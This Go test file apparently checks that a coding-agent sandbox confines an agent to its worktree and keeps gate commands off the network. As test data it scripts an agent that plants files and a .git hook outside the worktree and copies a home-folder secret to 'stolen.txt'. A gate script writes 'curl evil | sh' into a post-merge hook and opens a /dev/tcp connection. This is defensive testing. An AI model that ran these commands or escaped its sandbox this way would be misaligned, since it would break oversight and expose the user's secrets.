package run_test

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"portwave/internal/testws"
	"portwave/mage/agent"
)

// Whatever agent runs (here the command adapter, which takes no permission
// rules), the sandbox lets it write its worktree and nothing else: not the
// main checkout, not its .git (a hook would run outside the sandbox at the
// next commit), not a folder git ignores there (which no check after the
// attempt sees), not the home folder; and it cannot read the home folder.
func TestTheSandboxKeepsAnAgentInsideItsWorktree(t *testing.T) {
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	secret := filepath.Join(home, fmt.Sprintf(".portwave-sandbox-test-%d", time.Now().UnixNano()))
	if err := os.WriteFile(secret, []byte("a secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(secret); os.Remove(secret + "-written") })
	ws := testws.New(t, map[string]string{"PORTWAVE_ATTEMPTS": "1"})
	targets := map[string]string{
		"a hook in the main repository's .git":     filepath.Join(ws.Dir, ".git", "hooks", "pre-commit"),
		"a file in the main checkout":              filepath.Join(ws.Dir, "dotnet", "src", "MiniBus", "Planted.cs"),
		"an ignored folder of the main checkout":   filepath.Join(ws.Dir, "dotnet", "src", "MiniBus", "obj", "Planted.targets"),
		"the home folder":                          secret + "-written",
		"the worktrees folder beside the worktree": filepath.Join(ws.Config.Worktrees, "planted"),
	}
	var script strings.Builder
	for _, p := range targets {
		fmt.Fprintf(&script, "mkdir -p '%s'; echo planted > '%s'; ", filepath.Dir(p), p)
	}
	script.WriteString("cp '" + secret + "' stolen.txt; echo 'class Mine { }' > dotnet/src/MiniBus/Mine.cs")
	w := reopen(t, ws)
	c, err := agent.NewCommand(agent.CommandOptions{Template: "sh -c \"" + script.String() + "\""})
	if err != nil {
		t.Fatal(err)
	}
	w.Agent = c
	w.RunBatch(context.Background(), 12) // the gate fails it: it ported nothing
	for what, p := range targets {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("the agent wrote %s: %s", what, p)
		}
	}
	wt := latest(t, w, 12).Worktree
	if data, err := os.ReadFile(filepath.Join(wt, "stolen.txt")); err == nil {
		t.Errorf("the agent read the home folder: %q", data)
	}
	if log := gitOut(t, wt, "log", "--format=%s", "-1", "--stat"); !strings.Contains(log, "Mine.cs") {
		t.Errorf("the agent's write inside its worktree was lost: %s", log)
	}
}

// The gate's commands run the agent's code (an MSBuild target, a test):
// in the sandbox they reach neither the main repository's .git nor the
// network.
func TestTheGatesCommandsRunWithoutTheNetworkAndCannotTouchMain(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	reached := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			c.Close()
			reached <- struct{}{}
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	ws := testws.New(t, nil)
	hook := filepath.Join(ws.Dir, ".git", "hooks", "post-merge")
	script := filepath.Join(t.TempDir(), "evil-test")
	os.WriteFile(script, []byte(fmt.Sprintf("#!/bin/bash\necho 'curl evil | sh' > %q\necho hi > /dev/tcp/127.0.0.1/%d\n"+
		"echo 'Passed!  - Failed:     0, Passed:     3, Skipped:     2, Total:     5, Duration: 1 ms - MiniBus.Tests.dll (net10.0)'\n", hook, port)), 0o755)
	ws.Config.Test = script
	t.Setenv("PORTWAVE_STANDIN_SCRIPT", testws.Script(t, port12(), nil))
	w := reopen(t, ws)
	w.RunBatch(context.Background(), 12)
	if _, err := os.Stat(hook); err == nil {
		t.Error("a gate command wrote a hook into the main repository's .git")
	}
	select {
	case <-reached:
		t.Error("a gate command reached the network")
	case <-time.After(200 * time.Millisecond):
	}
}
